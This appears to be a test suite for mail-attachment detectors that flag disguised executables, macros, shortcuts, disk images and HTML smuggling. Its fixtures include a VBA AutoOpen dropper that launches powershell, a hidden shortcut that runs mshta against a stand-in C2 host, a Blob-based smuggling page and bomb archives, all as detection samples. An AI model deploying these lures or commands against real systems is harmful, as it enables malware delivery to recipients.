import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import { box, type Colour, canvas, letter } from '../../mail/attachment/drawing.ts'
import { archive, iso, zip } from '../../mail/attachment/test-archives.ts'
import { nestedBomb, quine } from '../../mail/attachment/test-bombs.ts'
import { png, program, programWith, shortcut, vbaProject, wordDocument } from '../../mail/attachment/test-files.ts'
import { encryptedPdf, pdfOf } from '../../mail/attachment/test-pdf.ts'
import type { Detector } from '../detector.ts'
import { archiveUnreadable } from './archive-unreadable.ts'
import { bidiFilename } from './bidi-filename.ts'
import { disguisedIcon } from './disguised-icon.ts'
import { diskImage } from './disk-image.ts'
import { doubleExtension } from './double-extension.ts'
import { encryptedArchiveExecutable } from './encrypted-archive-executable.ts'
import { excelAddin } from './excel-addin.ts'
import { executableAttachment } from './executable-attachment.ts'
import { htmlSmuggling } from './html-smuggling.ts'
import { macroDocument } from './macro-document.ts'
import { shortcutAttachment } from './shortcut-attachment.ts'
import { type Post, post } from './test-attachments.ts'

let office: Post
before(async () => {
  office = await post()
})
after(async () => await office.close())
beforeEach(async () => await office.clear())

/** mail → severity */
const severities = async (detector: Detector) =>
  Object.fromEntries((await office.run(detector)).map((sign) => [sign.mails?.[0], sign.severity]))

const EXE = program()
const MINISTRY = 'yoshiki@shinsei.go.jp'
const DROPPER = 'Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "powershell"\r\nEnd Sub'
const FORM = 'Sub CommandButton1_Click()\r\nRange("A1").Value = 1\r\nEnd Sub'
const macro = (source: string) => wordDocument({ 'word/vbaProject.bin': vbaProject(source) })

test('double-extension: a program called .txt.exe is high, a text of that name medium, .ver2.docx nothing', async () => {
  await office.send('議事録.zip', zip([{ name: '議事録.txt.exe', content: EXE }]))
  await office.send('議事録.txt.exe', 'ただの文章です')
  await office.send('議事録.ver2.docx', wordDocument())
  await office.send('資料.txt.exe', program({ text: Buffer.from('AttacheCase', 'utf16le') }))
  const signs = await office.run(doubleExtension)
  assert.deepEqual(
    signs.map((sign) => [sign.mails, sign.severity, sign.words.real]),
    [
      [['m001.eml'], 'high', 'exe'],
      [['m002.eml'], 'medium', 'exe'],
      [['m004.eml'], 'medium', 'exe'],
    ],
  )
  assert.deepEqual(signs[0]?.lines, [{ evidence_id: 'e', line: 1 }])
  assert.deepEqual(signs[0]?.accounts, ['hanako@shanai.example'])
})

test('bidi-filename: a name that RLO turns is high and shown as the reader sees it, an Arabic one is nothing', async () => {
  await office.send('a.zip', zip([{ name: '報告\u202excod.scr', content: EXE }]))
  await office.send('تقرير\u200f.pdf', '%PDF-1.4')
  const signs = await office.run(bidiFilename)
  assert.deepEqual(
    signs.map((sign) => [sign.severity, sign.words.attachment, sign.words.real]),
    [['high', '報告rcs.docx', 'scr']],
  )
})

test('a path in an explanation names control characters instead of obeying them', async () => {
  await office.send('報告\u202excod.scr', EXE)
  const [sign] = await office.run(bidiFilename)
  assert.equal(sign?.words.path, '報告[RLO]xcod.scr')
})

test('executable-attachment: what hides is high, a plain program medium, and a known stub needs a phone call', async () => {
  await office.send('a.zip', zip([{ name: '写真.jpg', content: EXE }]))
  await office.send('b.zip', zip([{ name: 'setup.exe', content: EXE }]))
  await office.send(
    'c.zip',
    zip([
      { name: 'index.html', content: '<html></html>' },
      { name: 'menu.js', content: 'var a = 1' },
    ]),
  )
  await office.send('d.zip', zip([{ name: '資料.docx', content: wordDocument() }]))
  await office.send('e.exe', program({ text: Buffer.from('AttacheCase', 'utf16le') }))
  await office.send('f.js', 'new ActiveXObject("WScript.Shell").Run("powershell")')
  const signs = await office.run(executableAttachment)
  const [hidden, plain, site, stub, script] = signs.map((sign) => sign.severity)
  assert.deepEqual([hidden, plain, site, stub, script], ['high', 'medium', 'informational', 'low', 'high'])
  assert.match(signs[3]?.mitigations[0]?.ja ?? '', /電話/)
})

test('executable-attachment: source code in Python is low, whatever it downloads', async () => {
  await office.send('src.zip', zip([{ name: 'a/main.py', content: 'import os\n# downloadfile, powershell\n' }]))
  const signs = await office.run(executableAttachment)
  assert.deepEqual(
    signs.map((sign) => sign.severity),
    ['low'],
  )
})

test('a partner who has sent self-decrypting files before, with DKIM, is explained', async () => {
  const stub = program({ text: Buffer.from('AttacheCase', 'utf16le') })
  for (const day of [1, 5, 20]) await office.send('資料.exe', stub, { day, dkim: true })
  const signs = await office.run(executableAttachment)
  assert.deepEqual(
    signs.map((sign) => sign.severity),
    ['low', 'low', 'informational'],
  )
})

test('encrypted-archive-executable: seen by its name without a password and by its content with one; documents are nothing', async () => {
  await office.send('a.zip', archive('zip', { '議事録.exe': EXE }, '-px1'))
  await office.send('b.7z', archive('7z', { '議事録.txt': EXE }, '-px1', '-mhe=on'), { passwords: ['x1'] })
  await office.send('c.zip', archive('zip', { '議事録.docx': wordDocument() }, '-px1'), { passwords: ['x1'] })
  const signs = await office.run(encryptedArchiveExecutable)
  assert.deepEqual(
    signs.map((sign) => [sign.words.archive, sign.severity]),
    [
      ['a.zip', 'high'],
      ['b.7z', 'high'],
    ],
  )
  assert.deepEqual(await office.run(executableAttachment), [])
})

test('archive-unreadable: low where no password fits, lower with earlier ones that did, and silent where one fits', async () => {
  const made = archive('zip', { '議事録.docx': wordDocument() }, '-pkaisha')
  await office.send('a.zip', made, { day: 3, passwords: ['kaisha'] })
  await office.send('b.zip', made, { day: 4 })
  await office.send('c.7z', archive('7z', { 'a.txt': 'x' }, '-pq', '-mhe=on'), { from: 'a@other.example' })
  await office.send('d.7z', archive('7z', { 'a.txt': 'x' }, '-pq', '-mhe=on'), { from: 'a@proven.example', dkim: true })
  const signs = await office.run(archiveUnreadable)
  assert.deepEqual(
    signs.map((sign) => [sign.words.attachment, sign.severity, sign.confidence]),
    [
      ['b.zip', 'low', 0.2],
      ['c.7z', 'medium', 0.5], // even its names are hidden, and nobody proves the sender
      ['d.7z', 'low', 0.3],
    ],
  )
  assert.match(signs[0]?.mitigations[0]?.ja ?? '', /同じ規則/)
})

const badge = (text: string, colour: Colour) => {
  const picture = canvas(64)
  box(picture, 0.05, 0.05, 0.9, 0.9, colour)
  letter(picture, text, [0.2, 0.25, 0.6, 0.5], 0.17, [255, 255, 255])
  return programWith([{ width: 64, bytes: png(picture) }])
}

test('disguised-icon: a program with the W of Word is high, one with another letter nothing', async () => {
  await office.send('議事録.exe', badge('W', [43, 87, 170]))
  await office.send('販売管理.exe', badge('P', [43, 87, 170]))
  const signs = await office.run(disguisedIcon)
  assert.deepEqual(
    signs.map((sign) => [sign.words.attachment, sign.severity]),
    [['議事録.exe', 'high']],
  )
})

test('archive-unreadable: a file that only its own product opens is told, a picture that is broken is not', async () => {
  await office.send('見積.atc', Buffer.from([1, 0, 0, 200, 0, 129, 255, 0, 7, 0, 0, 1, 0, 2, 0, 3]))
  await office.send('写真.jpg', Buffer.from('ffd8ffe000', 'hex'))
  await office.send('a.zip', zip([{ name: 'a.txt', content: 'abc' }]))
  assert.deepEqual(
    (await office.run(archiveUnreadable)).map((sign) => sign.words.attachment),
    ['見積.atc'],
  )
})

test('archive-unreadable: a PDF that no password opens, or that is broken under one, is told; one that only forbids to print, or that its own mail opens, is not', async () => {
  const page = pdfOf([{ content: '60 700 400 1 re f' }])
  await office.send('明細.pdf', encryptedPdf(page, 'kaisha-2026'))
  await office.send('破損.pdf', Buffer.from('%PDF-1.7\ntrailer\n<< /Encrypt 9 0 R >>\n'))
  await office.send('途中.pdf', page.subarray(0, 100))
  await office.send('約款.pdf', encryptedPdf(page, ''))
  await office.send('給与.pdf', encryptedPdf(page, 'kaisha'), { passwords: ['kaisha'] })
  assert.deepEqual(
    (await office.run(archiveUnreadable)).map((sign) => [sign.words.attachment, sign.severity]),
    [
      ['明細.pdf', 'low'],
      ['破損.pdf', 'low'],
    ],
  )
})

test('archive-unreadable: two directories are medium, a message that breaks off at a bound is low, an odd header nothing', async () => {
  const [shown, hidden] = [zip([{ name: '議事録.txt', content: 'x' }]), zip([{ name: 'b.txt', content: 'y' }])]
  await office.send('a.zip', Buffer.concat([hidden, shown]))
  await office.send('b.txt', 'x', { defects: ['nested-too-deep'] })
  await office.send('c.txt', 'x', { defects: ['repeated-subject', 'unknown-charset:x'] })
  const signs = await office.run(archiveUnreadable)
  assert.deepEqual(
    signs.map((sign) => [sign.mails, sign.severity]),
    [
      [['m001.eml'], 'medium'],
      [['m002.eml'], 'low'],
    ],
  )
})

test('archive-unreadable: a ZIP that holds itself and a bomb of bombs say what was not looked into, an archive in an archive nothing', async () => {
  await office.send('a.zip', quine())
  await office.send('b.zip', nestedBomb(2, 16, 400))
  await office.send('c.zip', zip([{ name: 'd.zip', content: zip([{ name: 'e.txt', content: 'x' }]) }]))
  const signs = await office.run(archiveUnreadable)
  assert.deepEqual(
    signs.map((sign) => [sign.mails, sign.severity, (sign.words.why as { en: string }).en]),
    [
      [['m001.eml'], 'low', 'archives nested too deep'],
      [['m002.eml'], 'medium', 'unpacks to an abnormal size, as bombs do'],
    ],
  )
})

test('disk-image: with a shortcut or program in it high, plain media informational', async () => {
  await office.send(
    'a.iso',
    iso({
      '通知.lnk': shortcut({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c a.dll' }),
      'a.dll': program({ exports: ['x'] }),
    }),
  )
  await office.send('b.iso', iso({ 'readme.txt': '図面', 'a.dwg': 'AC1032' }))
  assert.deepEqual(Object.values(await severities(diskImage)), ['high', 'informational'])
})

test('shortcut-attachment: a command is high, a share outside too; one to the own file server sent inside is informational', async () => {
  await office.send(
    '案内.lnk',
    shortcut({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c mshta http://c2.example.net/a', hidden: true }),
  )
  await office.send('a.url', '[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.exe\r\n')
  await office.send('共有.lnk', shortcut({ target: '\\\\fs01\\kyoyu\\議事録.docx' }), {
    from: 'jiro@shanai.example',
    inside: true,
  })
  await office.send('b.url', '[InternetShortcut]\r\nURL=https://www.example.co.jp/\r\n')
  const signs = await office.run(shortcutAttachment)
  assert.deepEqual(
    signs.map((sign) => sign.severity),
    ['high', 'high', 'informational', 'low'],
  )
  assert.deepEqual([signs[0]?.destinations, signs[1]?.destinations], [['c2.example.net'], ['203.0.113.7']])
})

test('shortcut-attachment: a remote desktop outside is high, one of our own sent inside informational', async () => {
  await office.send('会議.rdp', 'full address:s:rdp.example.net\r\ndrivestoredirect:s:*\r\n')
  await office.send('受付.rdp', 'full address:s:ts01\r\n', { from: 'jiro@shanai.example', inside: true })
  const signs = await office.run(shortcutAttachment)
  assert.deepEqual(
    signs.map((sign) => [sign.severity, sign.destinations]),
    [
      ['high', ['rdp.example.net']],
      ['informational', []],
    ],
  )
})

test('macro-document: one that starts and calls out is high whoever sends it; a ministry form is informational', async () => {
  await office.send('a.docm', macro(DROPPER))
  await office.send('b.docm', macro(DROPPER), { from: MINISTRY, dkim: true })
  await office.send('c.docm', macro(FORM), { from: MINISTRY, dkim: true })
  await office.send('d.docm', macro(FORM))
  await office.send(
    'e.docx',
    wordDocument({
      'word/_rels/settings.xml.rels':
        '<Relationship Type="x/attachedTemplate" Target="https://tpl.example.net/a.dotm" TargetMode="External"/>',
    }),
  )
  await office.send('f.docx', wordDocument())
  const signs = await office.run(macroDocument)
  assert.deepEqual(
    signs.map((sign) => sign.severity),
    ['high', 'high', 'informational', 'low', 'high'],
  )
  assert.deepEqual(signs[4]?.destinations, ['tpl.example.net'])
})

test('macro-document: a OneNote page that comes by mail is suspicious whatever it shows; one sent inside is not', async () => {
  const page = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(1600)])
  await office.send('資料.one', page)
  await office.send('議事メモ.one', page, { from: 'jiro@shanai.example', inside: true })
  const signs = await office.run(macroDocument)
  assert.deepEqual(
    signs.map((sign) => sign.severity),
    ['medium'],
  )
})

test('excel-addin: an XLL is high, whatever its name; a workbook add-in medium', async () => {
  await office.send('見積.xll', program({ exports: ['xlAutoOpen'] }))
  await office.send('見積.xlsx', program({ exports: ['xlAutoOpen'] }))
  await office.send('計算.xlam', macro(FORM))
  await office.send('a.xlsx', wordDocument())
  assert.deepEqual(Object.values(await severities(excelAddin)), ['high', 'high', 'medium'])
})

test('html-smuggling: a page that saves a ZIP is high, one that asks for a password medium, a known service informational', async () => {
  const data = zip([{ name: '請求書.js', content: 'WScript.Echo(1)'.repeat(60), stored: true }]).toString('base64')
  await office.send(
    'a.html',
    `<html><script>const b=new Blob([atob("${data}")]);x.href=URL.createObjectURL(b);x.download="a.zip"</script></html>`,
  )
  const form = (url: string) => `<html><form action="${url}"><input type="password"></form></html>`
  await office.send('b.html', form('https://collect.example.net/p'))
  await office.send('securedoc.html', form('https://res.cisco.com/envelopeopener/pf'))
  await office.send('c.html', '<html><form action="https://x.example"><input name="q"></form></html>')
  const signs = await office.run(htmlSmuggling)
  assert.deepEqual(
    signs.map((sign) => sign.severity),
    ['high', 'medium', 'informational'],
  )
  assert.deepEqual(signs[1]?.destinations, ['collect.example.net'])
})

test('html-smuggling: a page that leads on at once, or hides where to, is medium of a stranger, also to his own domain', async () => {
  await office.send('a.html', '<meta http-equiv="refresh" content="0;url=https://kyokumu.example/r">', {
    from: 'soumu@kyokumu.example',
  })
  await office.send('b.html', '<html><script>const k=f();location.href=k</script>...</html>')
  assert.deepEqual(
    (await office.run(htmlSmuggling)).map((sign) => sign.severity),
    ['medium', 'medium'],
  )
})

test('disk-image: one that shows nothing, or whose name stands in a sealed archive, is medium of a stranger and low of a proven sender', async () => {
  const vhd = Buffer.concat([Buffer.alloc(4096), Buffer.from('conectix'), Buffer.alloc(504)])
  const sealed = archive('zip', { '資料.iso': 'x'.repeat(3000) }, '-psecret')
  await office.send('質問.vhd', vhd)
  await office.send('資料.zip', sealed)
  await office.send('backup.vhd', vhd, { dkim: true })
  await office.send('図面.zip', archive('zip', { '図面.dwg': 'x'.repeat(3000) }, '-psecret'))
  const signs = await office.run(diskImage)
  assert.deepEqual(
    signs.map((sign) => sign.severity),
    ['medium', 'medium', 'low'],
  )
})

test('disk-image: one locked in an archive is medium of a stranger though his own domain proves him, and of somebody who always sent papers; low of whom is known for long, or sent such before', async () => {
  const sealed = archive('zip', { '資料.iso': 'x'.repeat(3000) }, '-psecret')
  const papers = async (from: string, days: number[]) => {
    for (const day of days)
      await office.send('図面.zip', zip([{ name: '図面.txt', content: 'x' }]), { from, dkim: true, day })
    await office.send('資料.zip', sealed, { from, dkim: true })
  }
  await papers('a-desk@shiryo.example', [])
  await papers('b-new@torihiki.example', [8, 14])
  await papers('c-long@torihiki.example', [3, 8, 9, 10, 14])
  const vhd = Buffer.concat([Buffer.alloc(4096), Buffer.from('conectix'), Buffer.alloc(504)])
  await office.send('backup.vhd', vhd, { from: 'd-media@torihiki.example', dkim: true, day: 4 })
  await papers('d-media@torihiki.example', [8])
  const signs = await office.run(diskImage)
  assert.deepEqual(signs.map((sign) => `${String(sign.words.from)[0]} ${sign.severity}`).sort(), [
    'a medium',
    'b medium',
    'c low',
    'd low',
    'd low',
  ])
})

test('a page that opens a share by a handler of Windows is high, one that leads to a search page is not; a console file runs', async () => {
  const page = (target: string) => `<html><script>window.location.href="${target}"</script></html>`
  await office.send(
    'a.html',
    page('search-ms:query=Review&crumb=location:\\\\\\\\198.51.100.9@80\\\\docs&displayname=Docs'),
  )
  await office.send('b.html', '<html><a href="https://www.example.com/search?query=ms">search: query</a></html>')
  await office.send('c.msc', '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>')
  const signs = [...(await office.run(htmlSmuggling)), ...(await office.run(executableAttachment))]
  assert.deepEqual(
    signs.map((sign) => [sign.severity, sign.words.attachment]),
    [
      ['high', 'a.html'],
      ['medium', 'c.msc'],
    ],
  )
})

test("macro-document: a stranger's letter that starts by itself is suspicious, a partner's and a sheet are low", async () => {
  const starts = 'Sub AutoOpen()\n  ActiveDocument.Fields.Update\nEnd Sub\n'
  await office.send('届出書.docm', macro(starts))
  await office.send('集計.xlsm', macro(starts.replace('AutoOpen', 'Workbook_Open')))
  const signs = await office.run(macroDocument)
  assert.deepEqual(
    signs.map((sign) => [sign.metrics.attachment, sign.severity]),
    [
      ['届出書.docm', 'medium'],
      ['集計.xlsm', 'low'],
    ],
  )
})
